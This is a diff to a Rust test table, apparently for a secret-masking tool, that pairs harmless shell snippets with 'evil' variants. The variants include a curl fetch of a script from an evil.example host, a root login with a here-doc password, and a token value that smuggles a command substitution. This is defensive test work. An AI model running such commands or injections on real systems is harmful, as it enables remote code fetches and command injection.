@@ -119,6 +119,22 @@ const PAIRS: &[(&str, &str)] = &[
         "set -eu\nexport TOKEN=\"abcdef12\"\nmake -v >/dev/null\n",
         "set -eu\nexport TOKEN=\"a${PATH:+}${x:=\\$(touch evil)}${x@P}\"\nmake -v >/dev/null\n",
     ),
+    // What somebody asked to mask, and what a program runs that it reads.
+    ("echo ::add-mask::RunMy9oodT0ol8\nRunMy9oodT0ol8", "echo ::add-mask::RunMyEv1lT0ol8\nRunMyEv1lT0ol8"),
+    (
+        "su root <<E # --password-stdin\nRunMy9oodT0ol8\nE\n",
+        "su root <<E # --password-stdin\nRunMyEv1lT0ol8\nE\n",
+    ),
+    ("PASS=RunMyGoodTool\n$PASS", "PASS=RunMyEvilTool\n$PASS"),
+    // Hosts and paths in the form of a token.
+    (
+        "ping eyJaaaaaaaaaaa1.eyJbbbbbbbbbbb1.good.example",
+        "ping eyJaaaaaaaaaaa1.eyJbbbbbbbbbbb1.evil.example",
+    ),
+    (
+        "curl https://eyJaaaaaaaaa1.bbbbbbbbb1.good.example/i.sh",
+        "curl https://eyJaaaaaaaaa1.bbbbbbbbb1.evil.example/i.sh",
+    ),
     // A short or plain word, a host, a file, what a program decodes, and letters that look like a sign.
     ("echo '::add-mask::/bin/pwd'\n/bin/pwd", "echo '::add-mask::/bin/uname'\n/bin/uname"),
     ("alias pass=/bin/pwd", "alias pass=/bin/uname"),
